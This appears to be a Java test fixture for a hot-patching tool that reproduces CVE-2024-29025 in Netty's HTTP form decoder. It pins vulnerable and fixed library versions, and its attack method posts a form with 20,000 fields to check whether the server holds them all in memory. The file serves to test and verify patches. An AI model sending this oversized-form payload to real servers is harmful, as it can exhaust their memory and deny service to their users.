package dev.hotpatch.testdata.cve;

import dev.hotpatch.testdata.corpus.MavenArtifact;
import java.io.IOException;
import java.util.List;

/** A form with any number of fields is kept in memory whole. */
public final class NettyForm implements Vulnerability {
    private static final String FORM = "application/x-www-form-urlencoded";
    private static final int FIELDS = 20_000;

    @Override
    public String cve() {
        return "CVE-2024-29025";
    }

    @Override
    public VictimProgram program() {
        List<String> others = List.of(
                "netty-common",
                "netty-buffer",
                "netty-transport",
                "netty-resolver",
                "netty-codec",
                "netty-handler",
                "netty-transport-native-unix-common");
        return new VictimProgram(
                "FormMain",
                MavenArtifact.jar("io.netty", "netty-codec-http", "4.1.107.Final"),
                MavenArtifact.jar("io.netty", "netty-codec-http", "4.1.108.Final"),
                others.stream()
                        .map(name -> MavenArtifact.jar("io.netty", name, "4.1.107.Final"))
                        .toList(),
                List.of());
    }

    @Override
    public Attempt attack(RunningVictim victim) throws IOException, InterruptedException {
        RunningVictim.Reply reply = victim.post(FORM, "a=b&".repeat(FIELDS - 1) + "a=b");
        return new Attempt(reply.text().equals("fields=" + FIELDS), reply.text());
    }

    @Override
    public String use(RunningVictim victim) throws IOException, InterruptedException {
        return victim.post(FORM, "name=lamp&price=12").text();
    }
}
